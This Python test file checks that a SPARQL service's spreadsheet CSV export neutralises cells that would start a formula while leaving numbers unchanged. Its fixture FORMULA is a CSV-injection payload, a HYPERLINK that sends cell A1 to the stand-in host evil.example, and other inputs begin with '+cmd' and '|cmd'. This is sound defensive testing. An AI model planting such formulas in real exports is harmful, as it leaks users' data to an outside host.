"""Downloads for spreadsheets: no text of the data runs as a formula, and no number is spoilt."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from met_ari.spreadsheet import neutral
from tests.exchange import Site

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
QUERY = """SELECT * {{ VALUES (?text ?number) {{ ({text} -5) }} }}"""


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|cmd", "%0A", "\uff1d1"],
)
def test_what_begins_a_formula_is_made_text(text: str) -> None:
    assert neutral(text).lstrip(" ")[0] == "'"
    assert neutral(text).replace("'", "") == text


@pytest.mark.parametrize("text", ["a;=1", "a\t=1", "a\n=1", "a;@x", "a; =1"])
def test_a_separator_of_other_countries_begins_no_formula_either(text: str) -> None:
    safe = neutral(text)
    assert safe.replace("'", "") == text
    assert safe.rpartition("'")[2] in ("=1", "@x")


@pytest.mark.parametrize(
    "text", ["-5", "+3.25", "-.5", "1e-9", "-1E+3", "", "a=b", "a-b", "2019-04", "1;2", "it's"]
)
def test_numbers_and_harmless_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


@given(st.text(alphabet="=+-@|%\t\r\n ;'a1.e", max_size=12))
def test_no_cell_begins_a_formula_and_nothing_is_lost(text: str) -> None:
    safe = neutral(text)
    assert safe.replace("'", "") == text.replace("'", "")
    for cell in safe.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        begins_one = cell.lstrip(" ")[:1] in tuple("=+-@|%") and cell.strip() != ""
        assert not begins_one or safe == text


@pytest.fixture
def site(service: str) -> Site:
    return Site(service)


def test_the_download_is_csv_for_a_spreadsheet(site: Site) -> None:
    query = QUERY.format(text="'''" + FORMULA + "'''")
    reply = site.form("/sparql?format=spreadsheet", {"query": query})
    assert reply.status == 200, reply.text
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert reply.headers["Content-Disposition"] == 'attachment; filename="answer.csv"'
    assert reply.headers["ARI-Rows"] == "1"
    assert reply.body.startswith(b"\xef\xbb\xbftext,number\r\n")
    read = list(csv.reader(io.StringIO(reply.body.decode("utf-8-sig"), newline="")))
    assert read[1] == [f"'{FORMULA}", "-5"]


def test_plain_csv_stays_what_the_standard_says(site: Site) -> None:
    query = QUERY.format(text="'=1'")
    reply = site.form("/sparql", {"query": query}, Accept="text/csv")
    assert reply.body == b"text,number\r\n=1,-5\r\n"
    assert "Content-Disposition" not in reply.headers


def test_a_stored_query_gives_it_and_pages_link_it(site: Site) -> None:
    reply = site.get("/queries/topics-shared?format=spreadsheet")
    assert reply.headers["Content-Disposition"].startswith("attachment")
    assert "format=spreadsheet" in site.get("/queries/topics-shared", Accept="text/html").text


def test_an_ask_has_no_download(site: Site) -> None:
    reply = site.form("/sparql?format=spreadsheet", {"query": "ASK {}"})
    assert reply.problem(406, "not-acceptable")["available"] == ["json", "xml"]
